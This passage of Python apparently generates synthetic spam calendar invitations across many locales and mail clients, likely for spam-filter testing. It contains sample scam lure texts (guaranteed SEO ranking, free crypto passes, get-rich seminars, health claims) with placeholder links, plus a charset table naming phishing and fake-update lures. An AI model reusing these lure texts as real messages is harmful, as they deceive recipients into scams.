  body="Hi,\n\nI noticed your website is not ranking on the first page of Google. We can get you to #1 in 30 days, guaranteed. Book a free audit call with me at the time above.\n\nBest,\n{sname}\nSEO Consultant")
S(C, "en", "unsolicited 'prayer meeting' invitation to hundreds of unrelated guests", "free", clients=["google"], att="mass:300", when="week", hour=19,
  summary="Prayer meeting for our nation - all are welcome",
  body="You are invited to join thousands of believers in prayer. Join online: https://meet-pray-together.org/live\nShare this invitation with your family and friends!", meet=True)
S(C, "en", "crypto-conference promo blasted to a large guest list via a list", "free", listable=True, clients=["list", "google", "icloud"], att="mass:220",
  when="month",
  summary="FREE VIP pass: Crypto & Web3 Summit",
  body="Claim your free VIP pass now (value $999) - only today!\nhttps://web3-summit-vip.events/claim?c={code}")
S(C, "ja", "Japanese side-business seminar blasted to many attendees", "free", att="mass:120", when="week", hour=20,
  clients=["google", "outlook", "zoom", "icloud", "yahoo"],
  summary="【無料セミナー】副業で月収100万円を目指す方法",
  body="スマホだけで月収100万円！\n初心者でも安心の無料オンラインセミナーを開催します。\n参加登録：https://fukugyou-seminar.online/entry\n※先着100名様限定")
S(C, "zh-TW", "Traditional-Chinese health lecture mass invitation", "free", att="mass:180", when="week",
  summary="免費健康講座 – 名額有限",
  body="專家教您30天逆轉三高！免費健康講座，現場贈送保健品試用包。\n報名：https://health-talk-tw.com\n請轉發給親朋好友。")
S(C, "ru", "Russian marketplace-earnings webinar to hundreds of guests", "free", att="mass:250", when="week", hour=19,
  summary="Бесплатный вебинар: как заработать на маркетплейсах",
  body="Как выйти на доход 300 000 ₽ в месяц на Wildberries и Ozon без вложений.\nРегистрация: https://mp-start-vebinar.ru\nКоличество мест ограничено!")
S(C, "el", "Greek work-from-home seminar to a long guest list", "vps", clients=["handrolled", "list", "booking", "zimbra"], att="mass:100", when="week",
  summary="Δωρεάν σεμινάριο – κερδίστε από το σπίτι",
  body="Μάθετε πώς να κερδίζετε 3.000 € τον μήνα από το σπίτι. Δωρεάν διαδικτυακό σεμινάριο.\nΕγγραφή: https://kerdos-spiti.online/seminario")
S(C, "he", "Hebrew real-estate conference mass invitation", "free", att="mass:140", when="week",
  summary="הזמנה: כנס נדל\"ן בחינם – השקעות בחו\"ל",
  body="כנס השקעות נדל\"ן בחו\"ל – תשואה של 12% בשנה!\nהכניסה חופשית, מספר המקומות מוגבל.\nהרשמה: https://nadlan-invest-il.com/kenes")


# charsets that clients of these locales typically used for the text parts (applied where the client honours it)
PREFER_CS = {
    'Chinese-language sunglasses/bag sale spam with WeChat contact': 'gb2312',
    'Japanese brand-bag sale spam': 'iso-2022-jp',
    'Arabic shopping gift-card prize lure': 'windows-1256',
    'Vietnamese crypto investment lure': 'windows-1258',
    "Korean coin pump 'VIP room' ad": 'euc-kr',
    "Chinese USDT 'wealth management' fraud": 'gb2312',
    'Russian dating lure': 'koi8-r',
    'Thai dating lure': 'tis-620',
    'Greek courier-fee lure': 'iso-8859-7',
    'Japanese credit-card usage-confirmation phish': 'shift_jis',
    'Polish bank account-verification phish': 'iso-8859-2',
    'Russian fake Zoom-client update lure': 'windows-1251',
    'Traditional-Chinese meeting-plugin lure': 'big5',
    'Korean security-plugin lure': 'ks_c_5601-1987',
    'Hebrew urgent transfer request': 'windows-1255',
    'Russian international-lottery win lure': 'koi8-r',
    'Chinese order-brushing part-time job lure': 'gbk',
    'Turkish work-from-home lure': 'iso-8859-9',
    'Polish corrected-invoice share from compromised mailbox': 'windows-1250',
    'Greek project-offer share from compromised mailbox': 'windows-1253',
    'Hebrew price-quote share from compromised mailbox': 'windows-1255',
    'Japanese estimate-document share from compromised mailbox': 'iso-2022-jp',
    'Traditional-Chinese prize notice every day with several alarms': 'big5',
    'Traditional-Chinese health lecture mass invitation': 'big5',
}
for _it in ITEMS:
    if _it["d"] in PREFER_CS:
        _it["prefer_cs"] = PREFER_CS[_it["d"]]
